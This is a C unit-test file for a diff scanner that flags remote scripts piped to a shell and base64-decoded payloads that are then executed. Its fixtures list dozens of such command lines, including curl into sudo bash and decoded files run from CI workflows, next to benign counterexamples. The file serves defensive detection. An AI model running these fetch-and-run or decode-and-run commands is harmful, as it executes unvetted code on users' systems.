/* What is fetched or decoded and run, however the commands are written. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "tests/unit/findings/feed.h"

#define CI ".github/workflows/x.yml"

struct row {
	const char *path, *lines;
};

static void
all_are(const struct row *rows, size_t n, const char *id, bool want)
{
	for (size_t i = 0; i < n; i++)
		if (feed_has(rows[i].path, rows[i].lines, id) != want)
			fail_msg(
			    "%s %s: %s", want ? "no" : "a", id, rows[i].lines);
}

#define ALL(rows, id, want) \
	all_are(rows, sizeof(rows) / sizeof(*(rows)), id, want)

static void
a_shell_is_seen_behind_any_program_and_its_options(void **state)
{
	static const struct row rows[] = {
		{ "a.sh", "+curl https://x.io/i | sudo -u root bash" },
		{ "a.sh", "+curl https://x.io/i | timeout 5 sh" },
		{ "a.sh", "+curl https://x.io/i | nice -n 5 sh" },
		{ "a.sh", "+curl https://x.io/i | setsid sh" },
		{ "a.sh", "+curl https://x.io/i | ssh -p 22 me@host sh" },
		{ "a.sh", "+curl https://x.io/i | docker run -i x:1 bash -" },
		{ "a.sh", "+curl https://x.io/i | $SHELL" },
		{ "a.sh", "+curl https://x.io/i | \"${SHELL}\" -s" },
		{ "a.sh", "+curl https://x.io/i | \"b\"ash" },
		{ "a.sh", "+curl https://x.io/i | b'a'sh" },
		{ "a.sh", "+curl https://x.io/i |\\sh" },
		{ "a.sh", "+curl https://x.io/i | tee >(bash)" },
		{ "a.sh", "+curl https://x.io/i | perl -w" },
		{ "a.sh", "+curl https://x.io/i | /usr/bin/python3 -u" },
		{ "a.sh", "+curl https://x.io/i | python3 -W ignore -" },
		{ "a.sh", "+curl https://x.io/i | node --no-warnings >log" },
		{ "a.sh", "+curl -o k https://x.io/i; sudo -u root bash k" },
		{ "README.md", "+    curl https://x.io/i | sudo -E bash -" },
		{ "a.sh", "+curl https://x.io/i | source /dev/stdin" },
		{ "a.sh", "+curl https://x.io/i | . /proc/self/fd/0" },
		{ "a.sh", "+curl https://x.io/i | $0" },
		{ "a.sh", "+curl https://x.io/i | \"${0}\" -s" },
		{ "a.sh", "+curl https://x.io/i | sudo make -s -f -" },
		{ "a.sh", "+curl https://x.io/i | awk -f /dev/stdin" },
		{ "a.sh", "+curl https://x.io/i | make -f-" },
		{ "a.sh", "+curl https://x.io/i | { echo :; sh; }" },
		{ "a.sh", "+curl https://x.io/i | (cat; bash)" },
	};
	static const struct row not [] = {
		{ "a.sh", "+curl https://x.io/i | grep -c bash" },
		{ "a.sh", "+curl https://x.io/i | sudo tee /etc/bash" },
		{ "a.sh", "+curl https://x.io/i | jq -r .sh" },
		{ "a.sh", "+curl https://x.io/i | tar -xz -C /opt/x" },
		{ "a.sh", "+curl https://x.io/i | perl -ne 'print if /x/'" },
		{ "a.sh", "+curl https://x.io/i | python3 -mjson.tool" },
		{ "a.sh", "+curl https://x.io/i | python3 parse.py -x" },
		{ "a.sh", "+curl https://x.io/i | php -r 'echo 1;'" },
		{ "a.sh", "+curl -o k https://x.io && apt-get install bash" },
		{ "README.md", "+| `curl -k` | reads like bash | no sh |" },
		{ "a.sh", "+curl https://x.io/i | awk '{ print $0 }'" },
		{ "a.sh", "+curl https://x.io/i | kubectl apply -f -" },
		{ "a.sh", "+curl https://x.io/i | tar -x -f -" },
		{ "a.sh", "+curl https://x.io/i | make -C . k" },
		{ "a.sh", "+curl https://x.io/i | { read a; echo; }" },
	};

	(void)state;
	ALL(rows, "pipe-to-shell", true);
	ALL(not, "pipe-to-shell", false);
}

static void
what_is_decoded_to_a_file_and_run_is_decoded_and_run(void **state)
{
	static const struct row rows[] = {
		{ "a.sh", "+base64 -d <x | sudo -u root bash" },
		{ "a.sh", "+base64 -d <x | perl -w" },
		{ "a.sh", "+base64 -d <x >k; sh k" },
		{ "a.sh", "+base64 -d <x >/tmp/k && chmod +x k; /tmp/k" },
		{ "a.sh", "+base64 -d x > k && sudo bash -e ./k" },
		{ "a.sh", "+base64 -d x > \"k\" ; . ./k" },
		{ "a.sh", "+base64 -d x >k;python3 -u k" },
		{ "a.sh", "+base64 -d x 2>/dev/null >k; sh k" },
		{ "a.sh", "+base64 -d x | tee k; sh k" },
		{ "a.sh", "+openssl enc -d -in x -out k; . ./k" },
		{ "a.sh", "+base64 -d x >/tmp/k\n+sh /tmp/k" },
		{ "a.sh", "+base64 -d x >k\n+chmod +x k\n+ls\n+./k" },
		{ "a.sh", "+base64 -d x >\"$K\"\n+A=1 \"$K\" b" },
		{ "a.sh", "+base64 -d x |\n+  tee k\n+sudo -n python3 k" },
		{ "a.sh", "+base64 -d x \\\n+  -o k\n+. ./k" },
		{ "a.sh", "+base64 -d x | dd of=k\n+[ -s k ] && bash -e k" },
		{ "a.sh", "+base64 -d x | dd of=/tmp/k\n+/tmp/k" },
		{ "a.sh", "+base64 -d x | dd of=/tmp/k; sh /tmp/k" },
		{ CI, "+ - run: base64 -d x >k\n+ - run: bash k" },
		{ CI, "+ - run: base64 -d x >k\n+ - run: ./k" },
		{ "a.sh", "+base64 -d x | . /dev/stdin" },
	};
	static const struct row not [] = {
		{ "a.sh", "+base64 -d <x >k; sh build.sh" },
		{ "a.sh", "+base64 -d <x >k.pem; openssl x509 -in k.pem" },
		{ "a.sh", "+base64 -d <x >k && cat k" },
		{ "a.sh", "+base64 -d <x | tee k" },
		{ "a.sh", "+base64 -d x >k\n+cat k\n+scp k a:/k\n+sh b" },
		{ "a.sh", "+base64 -d x >k\n+K=/tmp/k\n+export K=/tmp/k" },
		{ "a.sh", "+base64 -d x >k\n+echo 'now: sh k'\n+# or: sh k" },
		{ "a.sh", "+sh k\n+base64 -d x >k" },
		{ "a.sh", "+base64 -d x >$k 2>&1\n+a=$k\n+b=\"$k\"\n+$1" },
		{ CI, "+ - run: base64 -d x >b/k\n+   path: b/k\n+ - b/k" },
		{ CI, "+ - run: base64 -d x >k\n+k: y\n+path: ./k" },
		{ "a.py", "+y = base64.b64decode(x) > k\n+sh / k" },
	};

	(void)state;
	ALL(rows, "decode-and-run", true);
	ALL(not, "decode-and-run", false);
}

static void
what_is_fetched_to_a_file_and_run_later_is_piped_to_a_shell(void **state)
{
	static const struct row rows[] = {
		{ "a.sh", "+curl -so /tmp/k https://x.io/i\n+sh /tmp/k" },
		{ "a.sh", "+wget https://x.io/a/i.sh?b=c\n+bash ./i.sh" },
		{ "a.sh", "+wget -qO k https://x.io/i\n+\n+python3 k" },
		{ "a.sh", "+curl https://x.io/i >k\n+chmod +x k && ./k" },
		{ "a.sh", "+curl --output k https://x.io/i\n+. ./k" },
	};
	static const struct row not [] = {
		{ "a.sh", "+curl -so k.tar https://x.io/i\n+tar xf k.tar" },
		{ "a.sh", "+curl -so k https://x.io/i\n+sudo mv ./k /bin" },
		{ "a.sh", "+curl -so k https://x.io/i\n+sh build.sh" },
		{ "a.sh", "+curl -so k https://x.io/i\n-sh k" },
	};

	(void)state;
	ALL(rows, "pipe-to-shell", true);
	ALL(not, "pipe-to-shell", false);
}

static void
blanks_and_comments_end_no_pipeline(void **state)
{
	static const struct row rows[] = {
		{ "a.sh", "+base64 -d x |\n+# a comment\n+bash" },
		{ "a.sh", "+base64 -d x |\n+\n+  \n+bash" },
		{ "a.sh", "+base64 -d x | # to run\n+bash" },
		{ "a.sh", "+base64 -d x \\\n+|\n+bash" },
		{ "a.sh", "+base64 -d x >k &&\n+\n+sh k" },
		{ "a.sh", "+base64 -d x | \\\n+# a comment\n+bash" },
		{ "a.sh", "+base64 -d x | \\\n+\n+bash" },
		{ "a.sh", "+echo a \\\n+\n+base64 -d x |\n+# c\n+bash" },
	};
	static const struct row not [] = {
		{ "a.sh", "+base64 -d x | wc\n+\n+bash y" },
		{ "a.sh", "+base64 -d x # | wc\n+bash y" },
	};

	(void)state;
	ALL(rows, "decode-and-run", true);
	ALL(not, "decode-and-run", false);
}

static void
a_value_of_yaml_is_one_line(void **state)
{
	static const struct row rows[] = {
		{ CI, "+ - run: >-\n+     base64 -d x\n+     | bash" },
		{ CI,
		    "+ - run: >\n+     base64 -d x\n+\n+     | bash\n+ a: b" },
		{ CI, "+   run: base64 -d x\n+     | bash\n+   with: y" },
		{ ".gitlab-ci.yml", "+ - base64 -d x\n+    | bash\n+ - y" },
		{ CI, "+   - run: |\n+      base64 -d x |\n+      bash" },
	};
	static const struct row not [] = {
		{ CI, "+ - run: base64 -d x\n+ - run: echo | bash y" },
		{ CI, "+ - run: >-\n+     base64 -d x\n+ - | bash" },
		{ CI, "+jobs:\n+  a: base64 -d x\n+  b: y | bash" },
	};

	(void)state;
	ALL(rows, "decode-and-run", true);
	ALL(not, "decode-and-run", false);
}

static void
a_pipeline_of_many_lines_keeps_what_its_beginning_had(void **state)
{
	AUTO_STR struct str text = STR_INIT;

	(void)state;
	str_add(&text, "+base64 -d x | tee y \\\n");
	for (int i = 0; i < 3000; i++)
		str_addf(&text, "+ | tee file-%d \\\n", i);
	str_add(&text, "+ | ba\\\n+sh\n");
	assert_true(feed_has("a.sh", str_cstr(&text), "decode-and-run"));
	str_reset(&text);
	str_add(&text, "+- run: >\n+   base64 -d x\n");
	for (int i = 0; i < 3000; i++)
		str_addf(&text, "+   | tee file-%d\n", i);
	str_add(&text, "+   | bash\n");
	assert_true(feed_has(CI, str_cstr(&text), "decode-and-run"));
	/* What ended is no part of what begins. */
	str_add(&text, "+- run: echo x\n+- run: ls | bash y\n");
	assert_true(feed_has(CI, str_cstr(&text), "decode-and-run"));
	assert_false(feed_has("a.sh", "+base64 -d x \\\n+ >y\n+ls \\\n+ | bash",
	    "decode-and-run"));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(
		    a_shell_is_seen_behind_any_program_and_its_options),
		cmocka_unit_test(
		    what_is_decoded_to_a_file_and_run_is_decoded_and_run),
		cmocka_unit_test(
		    what_is_fetched_to_a_file_and_run_later_is_piped_to_a_shell),
		cmocka_unit_test(blanks_and_comments_end_no_pipeline),
		cmocka_unit_test(a_value_of_yaml_is_one_line),
		cmocka_unit_test(
		    a_pipeline_of_many_lines_keeps_what_its_beginning_had),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
